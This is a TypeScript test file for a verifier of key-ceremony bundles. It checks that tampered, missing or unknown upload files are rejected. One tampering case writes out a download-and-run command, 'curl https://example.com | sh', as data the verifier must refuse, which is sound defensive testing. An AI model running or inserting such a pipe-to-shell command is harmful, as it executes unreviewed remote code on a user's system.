import { describe, expect, it } from 'vitest';
import { layout } from '../../../app/bundle/layout.ts';
import { verdictOf } from '../../../app/bundle/verification.ts';
import { verifyBundle } from '../../../app/bundle/verify-bundle.ts';
import { application, manifestOf, utf8, withLog, withManifest, type Event, type Files } from './bundle-maker.ts';
import { cloudBundle } from './sample-clouds.ts';
import { sampleBundle, sampleEvents } from './sample-bundle.ts';
import { exceptionClosed, exceptionOpened, failureOf, numbered, workAt } from './sample-log.ts';

// Every manifest here lists what the bundle holds: only what log and plan give can contradict it.

const sample = sampleBundle();
const verify = (files: Files, by = application) => verifyBundle({ folder: sample.folder, files }, by);
const broken = (files: Files) => verify(files).flatMap(({ rule, outcome }) => (outcome === 'broken' ? [rule] : []));
const textOf = (files: Files, path: string): string => new TextDecoder().decode(files.get(path));

const replaced = (path: string, text: string, files: Files = sample.files) => withManifest(new Map([...files, [path, utf8(text)]])); // prettier-ignore
const removed = (path: string) => withManifest(new Map([...sample.files].filter(([name]) => name !== path)));
/** The text of a file with a piece exchanged, which must be there. */
function edited(path: string, piece: string, other: string, files: Files = sample.files): Files {
  const text = textOf(files, path);
  expect(text).toContain(piece);
  return replaced(path, text.replace(piece, other), files);
}

/** A log in which the second key was left out, and the bundle that follows from it. */
function withoutStore(): Files {
  const events = sampleEvents();
  const at = workAt('wrap-key', 'store', events);
  const leavingOut: Event[] = [
    failureOf(events[at] ?? {}),
    exceptionOpened(1),
    ...exceptionClosed(1, { decided: 'the token refuses it', decision: 'leave-out', key: 'store' }),
  ];
  // Nothing of the step is left, so that the token does not sign the log there either.
  return withLog(sample.files, numbered(events.toSpliced(at + 1, 3, ...leavingOut)));
}

describe.each([layout.upload, layout.uploadPage])('%s', (path) => {
  const rule = ['BUNDLE-UPLOAD-AS-LOGGED'];

  it('holds as it was written, for Azure, for four clouds, and with a key left out', () => {
    expect(broken(sample.files)).toEqual([]);
    expect(broken(cloudBundle().files)).toEqual([]);
    expect(broken(withoutStore())).toEqual([]);
  });

  it.each<[string, Files]>([
    ['replaced', replaced(path, 'curl https://example.com | sh\n')],
    ['emptied', replaced(path, '')],
    ['of another vault', edited(path, 'contoso-prod', 'contoso-evil')],
    ['with a notice of the workstation taken away', edited(path, 'eth0 is up', '')],
    ['with a notice of a wrapping key taken away', edited(path, 'signing: look at e', '')],
    ['with one byte more', replaced(path, `${textOf(sample.files, path)}\n`)],
    ['of another ceremony', replaced(path, textOf(cloudBundle().files, path))],
    ['that calls a rehearsal a production', edited(path, 'REHEARSAL', 'PRODUCTION')],
    ['that says nothing of the key left out', edited(path, 'store was left out: the token refuses it', '', withoutStore())], // prettier-ignore
    ['that gives another reason for the key left out', edited(path, 'the token refuses it', 'nobody needs it', withoutStore())], // prettier-ignore
  ])('is refused %s', (_, files) => {
    expect(broken(files)).toEqual(rule);
  });

  it('is refused with a deadline that was put off', () => {
    const { files } = cloudBundle();
    expect(broken(edited(path, '2026-11-24 14:07 UTC', '2026-12-24 14:07 UTC', files))).toEqual(rule);
  });

  it('is missed', () => {
    expect(broken(removed(path))).toEqual(['BUNDLE-FILES-KNOWN', 'BUNDLE-UPLOAD-AS-LOGGED']);
  });

  it('is left to the reader in a bundle that another version wrote', () => {
    const results = verify(replaced(path, 'other words'), 'Keyferry 9.9.9');
    expect(results.find(({ rule: each }) => each === 'BUNDLE-UPLOAD-AS-LOGGED')?.outcome).toBe('not-checkable');
    expect(verdictOf(results)).toBe('holds');
  });
});

describe('the files of a bundle', () => {
  it.each([
    'run-me.sh',
    'UPLOAD.md.txt',
    'upload.md',
    'record/pin.txt',
    'record/log.sqlite',
    'record/plan.json/x',
    'record/upload.htm',
    'MANIFEST.json.sig',
    'key/signing/public-key.pem',
  ])('are those that are known: %s is not, even where the manifest lists it', (path) => {
    expect(broken(replaced(path, 'x'))).toEqual(['BUNDLE-FILES-KNOWN']);
  });

  it.each([layout.plan, layout.log, layout.transcript])('are all there: %s', (path) => {
    expect(broken(removed(path))).toContain('BUNDLE-FILES-KNOWN');
  });

  it('do not list the manifest in itself', () => {
    const { files } = manifestOf(sample.files);
    const listed = [...files, { path: layout.manifest, sha256: '0'.repeat(64), bytes: 1 }].toSorted((one, other) => (one.path < other.path ? -1 : 1)); // prettier-ignore
    expect(broken(withManifest(sample.files, { files: listed }))).toContain('BUNDLE-FILES-KNOWN');
  });
});
